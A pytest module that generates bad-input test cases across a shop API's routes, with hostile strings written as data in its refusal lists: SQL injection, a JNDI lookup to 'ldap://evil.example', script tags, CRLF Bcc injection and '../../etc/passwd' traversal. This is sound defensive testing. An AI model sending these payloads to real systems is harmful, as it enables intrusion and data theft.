"""A bad-input corpus across every route.

The routes come from the app itself (``local.openapi_document.routes``); each
has an entry in ``ROUTES``: a valid request (path parameters, headers, body)
and which of its body fields are free text. From that entry and the route's
declared contract (``@documented``: body, auth) the cases are generated:

- bodies: malformed JSON, bodies of the wrong JSON type, wrong media types,
  too large, nested too deep, invalid UTF-8;
- every field of the valid body: wrong types, odd numbers (NaN, Infinity,
  1e400, 2**64, 1.0, -1, 0 for quantities and amounts), and for every field
  that is not free text (SKUs, numbers, ids, enums, emails, countries...)
  unicode edge cases and injection strings, which must be refused;
- every path parameter: traversal, encoded slashes, injection, NUL, overlong;
- tokens: none, forged, another scheme, another customer's token on this
  customer's resource; admin routes without a key or with a wrong one;
- the order desk's query: bad values, repeated parameters, bad limits,
  forged, tampered and foreign cursors;
- callbacks: the body cases above signed properly (so that parsing is what
  refuses them), forged signatures, signatures of another provider.

Every case must answer a 4xx with the JSON error body and leave the table
exactly as it was. Free text with odd content (emoji, combining marks, RTL
overrides, template and script syntax) may be accepted, and then must come
back intact and render escaped in the HTML email: ``test_odd_text_*``.
A replayed callback is a 2xx no-op; one outside the window is refused.

The cases share one table per module (a table per case would take minutes);
the snapshot is taken before each case and compared after it.
"""

from __future__ import annotations

import base64
import json
import os
import time
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field, replace
from typing import Any
from urllib.parse import quote

import boto3
import pytest

from chalicelib.api.contract import Operation
from chalicelib.carriers import signing as carrier_signing
from chalicelib.payments import signing as payment_signing
from local.openapi_document import RouteInfo, routes
from tests.conftest import (
    ADMIN_KEY,
    HMAC_SECRETS,
    STRIPE_SECRETS,
    Api,
    address,
    new_key,
    open_table,
    order_body,
    table_snapshot,
)

CARRIER_SECRET = "carrier-corpus-secret"
CARRIER_PARAMETER = "/shop/test/corpus/carrier-webhook-secrets"
MAX_BODY = 64 * 1024  # config.Settings.max_body_bytes


# --- the world the cases act on -------------------------------------------------------


@dataclass(frozen=True)
class W:
    """A value of the world, known only once it is built: ``W("order_a")``,
    or formatted into a string: ``W("token_a", "Bearer {}")``."""

    key: str
    template: str = "{}"


def build_world(api: Api) -> dict[str, Any]:
    """Two customers with an order and a cart each, a paid and partly shipped
    order, and a cursor of the order desk."""
    api.add_product("tea", available=10_000)
    api.add_product("mug", available=10_000)

    def place(name: str, email: str, method: str, lines: list[tuple[str, int]]) -> Any:
        r = api.place(
            order_body(lines, customer={"email": email, "name": name}, payment_method=method)
        )
        assert r.status_code == 201, r.json
        return r.json

    a = place("Anna A", "anna@example.com", "card", [("tea", 1)])
    b = place("Ben B", "ben@example.com", "bank_transfer", [("tea", 1)])
    paid = place("Anna A", "anna@example.com", "bank_transfer", [("mug", 3)])
    r = api.admin("POST", f"/admin/orders/{paid['id']}/payments", {"bank_reference": "TX-1"})
    assert r.status_code == 200, r.json
    r = api.admin(
        "POST",
        f"/admin/orders/{paid['id']}/shipments",
        {
            "carrier": "dhl",
            "tracking_number": "TRK-000001",
            "lines": [{"sku": "mug", "quantity": 1}],
        },
    )
    assert r.status_code == 201, r.json
    carts = []
    for email in ("anna@example.com", "ben@example.com"):
        r = api.call("POST", "/carts", {"lines": [{"sku": "tea", "quantity": 1}], "email": email})
        assert r.status_code == 201, r.json
        carts.append(r.json)
    listing = api.admin("GET", "/admin/orders?limit=1").json
    assert listing["next_cursor"], listing
    # A shipping method that is switched off (so orders without one are still
    # taken, as the free-text cases place them) and a code.
    r = api.admin("PUT", "/admin/shipping-methods/dhl-de", SHIPPING_METHOD)
    assert r.status_code == 200, r.json
    r = api.admin("POST", "/admin/shipping-methods/dhl-de/deactivate")
    assert r.status_code == 200, r.json
    r = api.admin("PUT", "/admin/discount-codes/CORPUS10", DISCOUNT_CODE)
    assert r.status_code == 200, r.json
    # A pickup location that is switched off, like the method.
    r = api.admin("PUT", "/admin/pickup-locations/mitte", PICKUP_LOCATION)
    assert r.status_code == 200, r.json
    r = api.admin("POST", "/admin/pickup-locations/mitte/deactivate")
    assert r.status_code == 200, r.json
    return {
        "order_a": a["id"],
        "token_a": a["token"],
        "number_a": a["number"],
        "order_b": b["id"],
        "token_b": b["token"],
        "number_b": b["number"],
        "paid": paid["id"],
        "cart_a": carts[0]["id"],
        "cart_token_a": carts[0]["token"],
        "cart_b": carts[1]["id"],
        "cart_token_b": carts[1]["token"],
        "cursor": listing["next_cursor"],
    }


@pytest.fixture(scope="module")
def shop(aws: None) -> Iterator[tuple[Api, str, dict[str, Any]]]:
    from chalice.test import Client

    from app import app
    from chalicelib import bootstrap

    with pytest.MonkeyPatch.context() as monkeypatch:
        opened = open_table(monkeypatch)
        table = next(opened)
        monkeypatch.setenv("SHOP_CARRIER_WEBHOOK_SECRETS_PARAMETER", CARRIER_PARAMETER)
        # The cases test input handling; the throttle has tests of its own.
        monkeypatch.setenv("SHOP_WITHDRAWAL_LOOKUP_ATTEMPTS", "1000000")
        boto3.client("ssm").put_parameter(
            Name=CARRIER_PARAMETER,
            Value=json.dumps([CARRIER_SECRET]),
            Type="SecureString",
            Overwrite=True,
        )
        bootstrap.reset()
        with Client(app, stage_name="dev") as client:
            api = Api(client)
            world = build_world(api)
            assert len(snapshot(table)) == len(table_snapshot(table)) > 0
            yield api, table, world
        next(opened, None)  # deletes the table


# --- what each route needs for a valid call ---------------------------------------------


@dataclass(frozen=True)
class Spec:
    """A valid call of one route, for the cases to spoil one thing at a time."""

    path: Mapping[str, Any] = field(default_factory=dict)
    body: Mapping[str, Any] | None = None
    headers: Mapping[str, Any] = field(default_factory=dict)
    #: Leaves of the body that are free text (names, reasons, notes): odd but
    #: valid content may be accepted there. Every other leaf is an identifier,
    #: an enum or a number, and odd content must be refused.
    text: frozenset[str] = frozenset()
    #: How the body is signed (callbacks), else None.
    signed: str | None = None
    #: Path parameter -> another customer's resource (token routes).
    foreign: Mapping[str, Any] = field(default_factory=dict)
    #: The media types the route takes; the rest are refused with 415.
    media: tuple[str, ...] = ("application/json",)
    #: Leaves where any printable ASCII is valid (ids in a provider's signed
    #: format, docs/payments.md): only other odd values must be refused there.
    printable: frozenset[str] = frozenset()
    #: Optional text where blank means "none given".
    blank_ok: frozenset[str] = frozenset()


ADMIN = {"Authorization": f"Bearer {ADMIN_KEY}"}
ORDER_TEXT = frozenset(
    {"customer.name"}
    | {
        f"{a}.{f}"
        for a in ("shipping_address", "billing_address")
        for f in ("name", "company", "line1", "line2", "postal_code", "city")
    }
)


SHIPPING_METHOD: dict[str, Any] = {
    "name": {"de": "DHL Paket", "en": "DHL parcel"},
    "carrier": "DHL",
    "price": 490,
    "currency": "EUR",
    "countries": ["DE", "AT"],
    "free_from": 5000,
    "delivery_time": {"de": "1-2 Werktage", "en": "1-2 working days"},
    "active": True,
}
PICKUP_LOCATION: dict[str, Any] = {
    "name": {"de": "Laden Berlin-Mitte", "en": "Berlin-Mitte shop"},
    "line1": "Torstr. 12",
    "line2": "Hinterhof",
    "postal_code": "10119",
    "city": "Berlin",
    "country": "DE",
    "opening_hours": {"de": "Mo-Fr 10-19 Uhr", "en": "Mon-Fri 10am-7pm"},
    "active": True,
}
#: A checkout that is collected: no shipping address, no method.
PICKUP_ORDER: dict[str, Any] = {
    **{k: v for k, v in order_body([("tea", 1)]).items() if k != "shipping_address"},
    "billing_address": address(company="ACME"),
    "pickup_location": "mitte",
}
DISCOUNT_CODE: dict[str, Any] = {
    "kind": "percentage",
    "percent": "10",
    "currency": "EUR",
    "minimum": 1000,
    "valid_from": "2026-01-01T00:00:00Z",
    "valid_until": "2027-01-01T00:00:00Z",
    "usage_limit": 100,
    "once_per_customer": True,
    "skus": ["tea"],
    "active": True,
}


def _hmac_event() -> dict[str, Any]:
    return {
        "id": "evt-corpus-1",
        "type": "payment.succeeded",
        "created": W("now"),
        "order_id": W("order_b"),
        "reference": "psp-corpus-1",
        "amount": 1999,
        "currency": "EUR",
    }


ROUTES: dict[tuple[str, str], Spec] = {
    ("GET", "/products/{sku}"): Spec(path={"sku": "tea"}),
    ("GET", "/openapi.json"): Spec(),
    ("POST", "/orders"): Spec(
        body={
            **order_body([("tea", 1)]),
            "shipping_address": address(company="ACME", line2="Hinterhaus"),
            "billing_address": address(company="ACME", line2="Hinterhaus"),
            "shipping_method": "dhl-de",
            "discount_code": "corpus10",
            "vat_id": "DE136695976",
            "buyer_reference": "04011000-1234512345-06",
        },
        headers={"Idempotency-Key": W("idempotency_key")},
        text=ORDER_TEXT,
    ),
    ("GET", "/orders/{order_id}"): Spec(
        path={"order_id": W("order_a")},
        headers={"Authorization": W("token_a", "Bearer {}")},
        foreign={"order_id": W("order_b")},
    ),
    ("GET", "/orders/{order_id}/invoices"): Spec(
        path={"order_id": W("order_a")},
        headers={"Authorization": W("token_a", "Bearer {}")},
        foreign={"order_id": W("order_b")},
    ),
    ("GET", "/orders/{order_id}/invoices/{number}/xml"): Spec(
        path={"order_id": W("order_a"), "number": "RE-2026-00001"},
        headers={"Authorization": W("token_a", "Bearer {}")},
        foreign={"order_id": W("order_b")},
    ),
    ("GET", "/orders/{order_id}/invoices/{number}/pdf"): Spec(
        path={"order_id": W("order_a"), "number": "RE-2026-00001"},
        headers={"Authorization": W("token_a", "Bearer {}")},
        foreign={"order_id": W("order_b")},
    ),
    ("POST", "/orders/{order_id}/cancel"): Spec(
        path={"order_id": W("order_a")},
        headers={"Authorization": W("token_a", "Bearer {}")},
        body={"reason": "changed my mind"},
        text=frozenset({"reason"}),
        foreign={"order_id": W("order_b")},
    ),
    ("POST", "/carts"): Spec(
        body={
            "lines": [{"sku": "tea", "quantity": 1}],
            "email": "anna@example.com",
            "locale": "de",
            "marketing_consent": {"granted": True, "source": "cart_page"},
        }
    ),
    ("GET", "/carts/{cart_id}"): Spec(
        path={"cart_id": W("cart_a")},
        headers={"Authorization": W("cart_token_a", "Bearer {}")},
        foreign={"cart_id": W("cart_b")},
    ),
    ("PUT", "/carts/{cart_id}"): Spec(
        path={"cart_id": W("cart_a")},
        headers={"Authorization": W("cart_token_a", "Bearer {}")},
        body={
            "lines": [{"sku": "tea", "quantity": 2}],
            "email": "anna@example.com",
            "locale": "en",
            "marketing_consent": {"granted": False, "source": "cart_page"},
        },
        foreign={"cart_id": W("cart_b")},
    ),
    ("GET", "/opt-out/{token}"): Spec(path={"token": "x" * 43}),
    ("POST", "/opt-out/{token}"): Spec(
        path={"token": "x" * 43},
        media=("application/x-www-form-urlencoded", "multipart/form-data", "application/json"),
    ),
    ("POST", "/webhooks/payments/{provider}"): Spec(
        path={"provider": "hmac"},
        body=_hmac_event(),
        signed="hmac",
        printable=frozenset({"id", "order_id", "reference"}),
    ),
    ("POST", "/webhooks/carriers/{carrier}"): Spec(
        path={"carrier": "dhl"},
        body={
            "event_id": "trk-corpus-1",
            "tracking_number": "TRK-000001",
            "status": "in_transit",
            "occurred_at": "2026-11-24T08:00:00Z",
            "location": "Berlin",
            "description": "sorted",
        },
        text=frozenset({"location", "description"}),
        blank_ok=frozenset({"location", "description"}),
        signed="carrier",
    ),
    ("PUT", "/admin/products/{sku}"): Spec(
        path={"sku": "tea"},
        headers=ADMIN,
        body={"name": "Tea", "price": 1999, "currency": "EUR", "tax_rate": "19"},
        text=frozenset({"name"}),
    ),
    ("PUT", "/admin/stock/{sku}"): Spec(
        path={"sku": "tea"}, headers=ADMIN, body={"available": 10_000}
    ),
    ("GET", "/admin/stock/{sku}"): Spec(path={"sku": "tea"}, headers=ADMIN),
    # Checkout terms (docs/checkout.md). The storefront's options take a query.
    ("GET", "/shipping-options"): Spec(),
    ("PUT", "/admin/shipping-methods/{method_id}"): Spec(
        path={"method_id": "dhl-de"},
        headers=ADMIN,
        body=SHIPPING_METHOD,
        text=frozenset({"name.de", "name.en", "carrier", "delivery_time.de", "delivery_time.en"}),
    ),
    ("GET", "/admin/shipping-methods"): Spec(headers=ADMIN),
    ("POST", "/admin/shipping-methods/{method_id}/deactivate"): Spec(
        path={"method_id": "dhl-de"}, headers=ADMIN
    ),
    ("PUT", "/admin/discount-codes/{code}"): Spec(
        path={"code": "CORPUS10"}, headers=ADMIN, body=DISCOUNT_CODE
    ),
    ("GET", "/admin/discount-codes"): Spec(headers=ADMIN),
    ("PUT", "/admin/pickup-locations/{location_id}"): Spec(
        path={"location_id": "mitte"},
        headers=ADMIN,
        body=PICKUP_LOCATION,
        text=frozenset(
            {"name.de", "name.en", "line1", "line2", "postal_code", "city"}
            | {"opening_hours.de", "opening_hours.en"}
        ),
    ),
    ("GET", "/admin/pickup-locations"): Spec(headers=ADMIN),
    ("POST", "/admin/pickup-locations/{location_id}/deactivate"): Spec(
        path={"location_id": "mitte"}, headers=ADMIN
    ),
    ("POST", "/admin/discount-codes/{code}/deactivate"): Spec(
        path={"code": "NO-SUCH-CODE"}, headers=ADMIN
    ),
    # Data subject requests (docs/gdpr.md): an export, which erases nothing.
    ("POST", "/admin/data-requests"): Spec(
        headers=ADMIN, body={"email": "anna@example.com", "kind": "export"}
    ),
    ("GET", "/admin/orders"): Spec(headers=ADMIN),
    # The month's export (docs/invoices.md): the month is a query parameter,
    # spoiled by month_query_cases.
    ("GET", "/admin/invoices"): Spec(headers=ADMIN),
    ("GET", "/admin/invoices/journal"): Spec(headers=ADMIN),
    ("GET", "/admin/orders/{order_id}"): Spec(path={"order_id": W("order_a")}, headers=ADMIN),
    ("GET", "/admin/orders/{order_id}/invoices/{number}/pdf"): Spec(
        path={"order_id": W("order_a"), "number": "RE-2026-00001"}, headers=ADMIN
    ),
    ("POST", "/admin/orders/{order_id}/notes"): Spec(
        path={"order_id": W("order_a")},
        headers=ADMIN,
        body={"note": "call before delivery", "visibility": "internal"},
        text=frozenset({"note"}),
    ),
    # Click & collect: the paid order is sent, so a valid request is refused
    # as not a pickup order (409) and every case changes nothing either way.
    ("POST", "/admin/orders/{order_id}/ready-for-pickup"): Spec(
        path={"order_id": W("paid")}, headers=ADMIN
    ),
    ("POST", "/admin/orders/{order_id}/pickup"): Spec(
        path={"order_id": W("paid")}, headers=ADMIN, body={"code": "123456"}
    ),
    ("POST", "/admin/orders/{order_id}/shipments"): Spec(
        path={"order_id": W("paid")},
        headers=ADMIN,
        body={
            "carrier": "dhl",
            "tracking_number": "TRK-000002",
            "tracking_url": "https://example.com/track/TRK-000002",
            "lines": [{"sku": "mug", "quantity": 1}],
        },
    ),
    ("POST", "/admin/orders/{order_id}/returns"): Spec(
        path={"order_id": W("paid")},
        headers=ADMIN,
        body={
            "lines": [{"sku": "mug", "quantity": 1, "restock": True}],
            "refund": 100,
            "surcharge": 0,
            "reason": "broken",
        },
        text=frozenset({"reason"}),
    ),
    ("POST", "/admin/orders/{order_id}/cancel"): Spec(
        path={"order_id": W("order_a")},
        headers=ADMIN,
        body={"reason": "out of stock"},
        text=frozenset({"reason"}),
    ),
    ("GET", "/admin/orders/{order_id}/packing-slip"): Spec(
        path={"order_id": W("paid")}, headers=ADMIN
    ),
    ("POST", "/admin/orders/{order_id}/payments"): Spec(
        path={"order_id": W("order_b")},
        headers=ADMIN,
        body={"bank_reference": "SEPA-1"},
        text=frozenset({"bank_reference"}),
    ),
    ("POST", "/admin/payments/bank-transfers"): Spec(
        headers=ADMIN,
        body={"payments": [{"number": W("number_b"), "bank_reference": "SEPA-2"}]},
        text=frozenset({"payments[0].bank_reference"}),
    ),
    ("POST", "/admin/orders/{order_id}/refunds"): Spec(
        path={"order_id": W("paid")},
        headers=ADMIN,
        body={"amount": 100, "reason": "scratched"},
        text=frozenset({"reason"}),
    ),
    # Withdrawals name an unpaid order: any well-formed variant is refused
    # (409: cannot be withdrawn from; 404: no such order), never received.
    ("POST", "/withdrawals/lookup"): Spec(
        body={"number": W("number_a"), "email": "anna@example.com"},
    ),
    ("POST", "/withdrawals"): Spec(
        body={
            "order_id": W("order_a"),
            "token": W("token_a"),
            "scope": "lines",
            "lines": [{"sku": "tea", "quantity": 1}],
            "confirm": True,
        },
    ),
    ("POST", "/admin/orders/{order_id}/withdrawals"): Spec(
        path={"order_id": W("order_a")},
        headers=ADMIN,
        body={"lines": [{"sku": "tea", "quantity": 1}], "sent_at": "2026-11-24T08:00:00Z"},
    ),
    ("POST", "/admin/orders/{order_id}/withdrawals/{withdrawal_id}/release"): Spec(
        path={"order_id": W("order_a"), "withdrawal_id": "wd_" + "0" * 20},
        headers=ADMIN,
        body={"reason": "proof_of_dispatch"},
    ),
}


def app_routes() -> list[RouteInfo]:
    from app import app

    return list(routes(app))


# --- cases ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Raw:
    """A JSON literal json.dumps cannot write (NaN, 1e400, -0...)."""

    literal: str


@dataclass(frozen=True)
class Case:
    id: str
    method: str
    path: str
    #: What the spoiled request sends; W values are filled in from the world.
    path_values: Mapping[str, Any]
    headers: Mapping[str, Any]
    body: Any = None  # a JSON value (with Raw leaves), bytes, or None
    query: str = ""
    #: Sign the body as the route's provider would (callbacks).
    signed: str | None = None
    #: For a 422 validation_error: the field it must name.
    field_loc: tuple[str, ...] | None = None
    statuses: tuple[int, ...] = (400, 401, 403, 404, 409, 413, 415, 422)
    code: str | None = None


STRINGS_REFUSED_IN_IDENTIFIERS: dict[str, Callable[[str], str]] = {
    "NUL": lambda v: v + "\x00",
    "lone surrogate": lambda v: v + "\ud800",
    "RTL override": lambda v: v + "\u202e",
    "zero-width joiner": lambda v: v + "\u200d",
    "emoji": lambda v: v + "\U0001f600",
    "combining mark": lambda v: v + "e\u0301",
    "very long": lambda v: v + "x" * 20_000,
    "empty": lambda v: "",
    "SQL": lambda v: "' OR 1=1--",
    "DynamoDB expression": lambda v: "#a = :b",
    "JNDI": lambda v: "${jndi:ldap://evil.example/a}",
    "Jinja": lambda v: "{{7*7}}",
    "Jinja raw": lambda v: "{% raw %}x{% endraw %}",
    "script": lambda v: "<script>alert(1)</script>",
    "CRLF": lambda v: v + "\r\nBcc: evil@example.com",
    "traversal": lambda v: "../../etc/passwd",
    "encoded slash": lambda v: "..%2F..%2Fadmin",
}
#: Refused in free text too: not representable, or over every length bound.
STRINGS_REFUSED_IN_TEXT: dict[str, Callable[[str], str]] = {
    "lone surrogate": lambda v: v + "\ud800",
    "very long": lambda v: v + "x" * 20_000,
    "whitespace only": lambda v: " \t ",
}
NUMBERS_REFUSED: dict[str, Any] = {
    "NaN": Raw("NaN"),
    "Infinity": Raw("Infinity"),
    "-Infinity": Raw("-Infinity"),
    "1e400": Raw("1e400"),
    "2**64": Raw(str(2**64)),
    "-2**64": Raw(str(-(2**64))),
    "1.0": Raw("1.0"),
    "1.5": Raw("1.5"),
    "-1": Raw("-1"),
    "numeric string": "1",
    "true": True,
}
#: Not text at all: refused by the JSON parser already (400 malformed_json).
NOT_JSON_TEXT = {"lone surrogate"}
#: Quantities and refund amounts start at 1 (a provider's amounts may be 0).
ZERO_REFUSED = {"quantity", "amount"}
#: An internationalised domain is a valid address (é in ``example.comé``);
#: email-validator stores it NFC-normalised.
EMAIL_MAY_ACCEPT = {"combining mark"}
WRONG_TYPES: dict[str, Any] = {"array": [], "object": {}, "null": None, "bool": False}
#: Optional fields for which null means "not given" (a valid request).
NULLABLE = {
    "company",
    "vat_id",
    "buyer_reference",
    "line2",
    "tracking_url",
    "amount",
    "marketing_consent",
    "email",
    "billing_address",
    "location",
    "description",
    # withdrawals: the other way of naming the order, or a declaration sent now
    "order_id",
    "token",
    "number",
    "sent_at",
    # checkout terms: a method or code not given, a limit not set, a text
    # in one locale only
    "shipping_method",
    "discount_code",
    "free_from",
    # click & collect: sent (no location)
    "pickup_location",
    "delivery_time",
    "valid_from",
    "valid_until",
    "usage_limit",
    "skus",
    "percent",
    "de",
    "en",
}

PATH_VALUES: dict[str, str] = {
    "traversal": "../../admin/stock/tea",
    "encoded traversal": quote("../../admin", safe=""),
    "encoded slash": "tea%2F..%2Fmug",
    "NUL": "tea%00",
    "SQL": quote("' OR 1=1--", safe=""),
    "DynamoDB expression": quote("#a = :b", safe=""),
    "Jinja": quote("{{7*7}}", safe=""),
    "script": quote("<script>", safe=""),
    "CRLF": "tea%0D%0ABcc:%20x",
    "emoji": quote("\U0001f600", safe=""),
    "overlong": "x" * 3000,
}


def leaves(value: Any, prefix: str = "") -> Iterator[tuple[str, Any]]:
    if isinstance(value, dict):
        for key, child in value.items():
            yield from leaves(child, f"{prefix}.{key}" if prefix else key)
    elif isinstance(value, list):
        for i, child in enumerate(value):
            yield from leaves(child, f"{prefix}[{i}]")
    else:
        yield prefix, value


def replaced(value: Any, at: str, new: Any) -> Any:
    """A copy of ``value`` with the leaf at ``at`` (``a.b[0].c``) replaced."""
    return _replaced(value, loc_of(at), new)


def _replaced(value: Any, loc: tuple[str, ...], new: Any) -> Any:
    key: Any = int(loc[0]) if isinstance(value, list) else loc[0]
    copy = list(value) if isinstance(value, list) else dict(value)
    copy[key] = new if len(loc) == 1 else _replaced(value[key], loc[1:], new)
    return copy


def loc_of(at: str) -> tuple[str, ...]:
    return tuple(part.strip("[]") for part in at.replace("[", ".[").split(".") if part)


@dataclass(frozen=True)
class Spoiled:
    """A field's valid value (maybe from the world), spoiled."""

    good: Any
    spoil: Callable[[str], str]


def route_cases(route: RouteInfo) -> Iterator[Case]:
    spec, op = ROUTES[(route.method, route.path)], route.operation
    assert op is not None

    def case(what: str, **changes: Any) -> Case:
        return Case(
            id=f"{route.method} {route.path}: {what}",
            method=route.method,
            path=route.path,
            path_values=changes.pop("path_values", spec.path),
            headers=changes.pop("headers", spec.headers),
            body=changes.pop("body", spec.body),
            signed=changes.pop("signed", spec.signed),
            **changes,
        )

    if route.method in ("POST", "PUT"):
        yield from media_cases(spec, case)
        yield case(
            "body over the size limit",
            body=b"List-Unsubscribe=One-Click&x=" + b"x" * MAX_BODY,
            headers={**spec.headers, "Content-Type": spec.media[0]},
            statuses=(413,),
            code="body_too_large",
            signed=None,
        )
    for header in op.headers:
        yield from header_cases(header.name, spec, case)
    if spec.body is not None:
        yield from body_cases(spec, op, case)
        yield from field_cases(spec, case)
    yield from path_cases(spec, case)
    yield from auth_cases(spec, op, case)
    if route.path == "/admin/orders":
        yield from query_cases(case)
    if route.path == "/shipping-options":
        yield from shipping_options_cases(case)
    if route.path.startswith("/admin/invoices"):
        yield from month_query_cases(route.path, case)
    if (route.method, route.path) == ("POST", "/orders") and spec.body is not None:
        # Required, with its own code rather than validation_error (docs/legal.md).
        without_terms = {k: v for k, v in spec.body.items() if k != "terms_accepted"}
        yield case("terms missing", body=without_terms, statuses=(422,), code="terms_not_accepted")
        outdated = {**spec.body, "terms_accepted": {"version": "2020-01-01"}}
        yield case("terms outdated", body=outdated, statuses=(422,), code="terms_version_outdated")
    if (route.method, route.path) == ("PUT", "/admin/products/{sku}"):
        # A name per locale, spoiled in a body that is otherwise valid.
        named = Spec(
            path=spec.path,
            headers=spec.headers,
            body={**(spec.body or {}), "name": {"de": "Tee", "en": "Tea"}},
            text=frozenset({"name.de", "name.en"}),
        )
        for c in field_cases(named, case):
            if c.id.split(": ", 1)[1].startswith("name."):
                yield replace(c, id=c.id.replace(": ", ": per locale, ", 1))
    if (route.method, route.path) == ("POST", "/orders"):
        # The collected checkout's own field, spoiled in a body that is otherwise valid.
        pickup = Spec(body=PICKUP_ORDER, headers=spec.headers, text=spec.text)
        for c in field_cases(pickup, case):
            if c.id.split(": ", 1)[1].startswith("pickup_location "):
                yield replace(c, id=c.id.replace(": ", ": collected, ", 1))
    if route.path.endswith("/invoices/{number}/xml"):
        for what, query in {
            "unknown flavour": "flavour=ubl",
            "flavour in capitals": "flavour=XRECHNUNG",
            "flavour NUL": "flavour=xrechnung%00",
            "flavour empty": "flavour=",
            "repeated flavour": "flavour=factur-x&flavour=xrechnung",
            "unknown parameter": "format=pdf",
        }.items():
            yield case(f"query {what}", query=query)
    if (route.method, route.path) == ("POST", "/orders") and spec.body is not None:
        # A VAT ID of the right shape whose check digits are wrong: its own code.
        for what, vat_id in {
            "VAT ID check digits": "DE136695975",
            "VAT ID of no member state": "CH123456789",
            "VAT ID format": "ATU1234",
        }.items():
            bad = {**spec.body, "vat_id": vat_id}
            yield case(what, body=bad, statuses=(422,), code="vat_id_invalid")
    if route.path.endswith("/packing-slip"):
        for what, query in {
            "unknown shipment": "shipment_id=shp_0000000000000000",
            "shipment_id injection": "shipment_id=" + quote("' OR 1=1--", safe=""),
            "shipment_id traversal": "shipment_id=..%2F..%2Fadmin",
            "shipment_id NUL": "shipment_id=shp_1%00",
            "shipment_id overlong": "shipment_id=" + "s" * 3000,
            "repeated shipment_id": "shipment_id=a&shipment_id=b",
            "unknown parameter": "format=pdf",
            "amounts not true or false": "amounts=yes",
            "amounts empty": "amounts=",
            "repeated amounts": "amounts=true&amounts=false",
        }.items():
            yield case(f"query {what}", query=query)


def media_cases(spec: Spec, case: Callable[..., Case]) -> Iterator[Case]:
    for media in (
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/xml",
    ):
        if media.split(";")[0] not in spec.media:
            yield case(
                f"Content-Type {media}",
                headers={**spec.headers, "Content-Type": media},
                statuses=(415,),
                code="unsupported_media_type",
                signed=None,
            )


HEADER_VALUES = {
    "NUL": "key-0123456789abcdef\x00",
    "CRLF": "key-0123456789abcdef\r\nX-Admin: 1",
    "emoji": "key-0123456789abcdef\U0001f600",
    "RTL override": "key-0123456789abcdef\u202e",
    "space inside": "key 0123456789abcdef",
    "too short": "key-0123",
    "overlong": "k" * 201,
    "empty": "",
}


def header_cases(name: str, spec: Spec, case: Callable[..., Case]) -> Iterator[Case]:
    for what, value in HEADER_VALUES.items():
        yield case(f"header {name} {what}", headers={**spec.headers, name: value}, statuses=(400,))


def body_cases(spec: Spec, op: Operation, case: Callable[..., Case]) -> Iterator[Case]:
    good = encode(spec.body, STAND_INS)
    malformed = {
        "truncated JSON": good[: len(good) // 2],
        "trailing comma": good[:-1] + b",}",
        "single quotes": good.replace(b'"', b"'"),
        "two documents": good + good,
        "form body": b"lines=tea&quantity=1",
        "raw NUL byte": good[:-1] + b',"\x00":1}',
        "invalid UTF-8": good[:-1] + b',"x":"\xff\xfe"}',
        "UTF-8 BOM": b"\xef\xbb\xbf" + good,
        # Under the size limit, so that the parser meets them (100k levels
        # are over it: "100k levels" below).
        "30k levels of [": b"[" * 30_000 + b"]" * 30_000,
        "10k levels of {": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        "deep nesting in a field": good[:-1] + b',"x":' + b"[" * 5000 + b"]" * 5000 + b"}",
        "no Content-Type, truncated JSON": good[:-1],
    }
    # The world's values are filled in when a case is sent: malformed bodies
    # are built from stand-ins and sent as they are.
    for what, raw in malformed.items():
        headers = spec.headers
        if what.startswith("no Content-Type"):
            headers = {**spec.headers, "Content-Type": ""}
        yield case(what, body=raw, headers=headers, code=None if spec.signed else "malformed_json")
    for what, value in {
        "array": [1],
        "string": "x",
        "number": 1,
        "null": None,
        "true": True,
    }.items():
        yield case(f"JSON {what} as the body", body=Raw(json.dumps(value)))
    for what, raw in {
        "100k levels of [": b"[" * 100_000 + b"]" * 100_000,
        "100k levels of {": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    }.items():
        yield case(what, body=raw, statuses=(413,), code="body_too_large")
    first = next(iter(spec.body or {}))
    assert spec.body is not None
    yield case(
        "over the size limit",
        body=replaced(spec.body, first, "x" * MAX_BODY),
        statuses=(413,),
        code="body_too_large",
    )
    if op.body_required:
        yield case("empty body", body=b"")


STAND_INS = {"now": 1, "idempotency_key": "k", "order_b": "o", "number_b": "AAAA-AAAA",
             "order_a": "0" * 36, "token_a": "t" * 43, "number_a": "AAAA-AAAA"}  # fmt: skip


def field_cases(spec: Spec, case: Callable[..., Case]) -> Iterator[Case]:
    assert spec.body is not None
    for at, good in leaves(spec.body):
        name = at.rsplit(".", 1)[-1]
        loc = loc_of(at)
        for what, value in WRONG_TYPES.items():
            if value is None and name in NULLABLE:
                continue
            if isinstance(good, bool) and isinstance(value, bool):
                continue
            yield case(f"{at} {what}", body=replaced(spec.body, at, value), field_loc=loc)
        if isinstance(good, bool):
            yield case(f"{at} string", body=replaced(spec.body, at, "true"), field_loc=loc)
        elif isinstance(good, int) or (isinstance(good, W) and good.key == "now"):
            numbers = dict(NUMBERS_REFUSED)
            if name in ZERO_REFUSED and not spec.signed:
                numbers.update({"0": Raw("0"), "-0": Raw("-0")})
            for what, value in numbers.items():
                yield case(f"{at} {what}", body=replaced(spec.body, at, value), field_loc=loc)
        else:
            text = at in spec.text
            table = STRINGS_REFUSED_IN_TEXT if text else STRINGS_REFUSED_IN_IDENTIFIERS
            for what, spoil in table.items():
                if may_accept(spec, at, what, spoil):
                    continue
                not_json = what in NOT_JSON_TEXT
                yield case(
                    f"{at} {what}",
                    body=replaced(spec.body, at, Spoiled(good, spoil)),
                    field_loc=None if not_json else loc,
                    code="malformed_json" if not_json and not spec.signed else None,
                )


def may_accept(spec: Spec, at: str, what: str, spoil: Callable[[str], str]) -> bool:
    name = at.rsplit(".", 1)[-1]
    if name == "email" and what in EMAIL_MAY_ACCEPT:
        return True
    if at in spec.blank_ok and what == "whitespace only":
        return True
    value = spoil("x")
    return (
        at in spec.printable and 0 < len(value) <= 200 and value.isascii() and value.isprintable()
    )


def path_cases(spec: Spec, case: Callable[..., Case]) -> Iterator[Case]:
    for param in spec.path:
        for what, value in PATH_VALUES.items():
            yield case(f"path {param} {what}", path_values={**spec.path, param: value})


def auth_cases(spec: Spec, op: Operation, case: Callable[..., Case]) -> Iterator[Case]:
    without = {k: v for k, v in spec.headers.items() if k != "Authorization"}
    if "admin_key" in op.auth:
        for what, header, status in (
            ("no admin key", None, 401),
            ("wrong admin key", "Bearer wrong-admin-key-0123456789", 403),
            ("admin key as Basic", f"Basic {ADMIN_KEY}", 403),
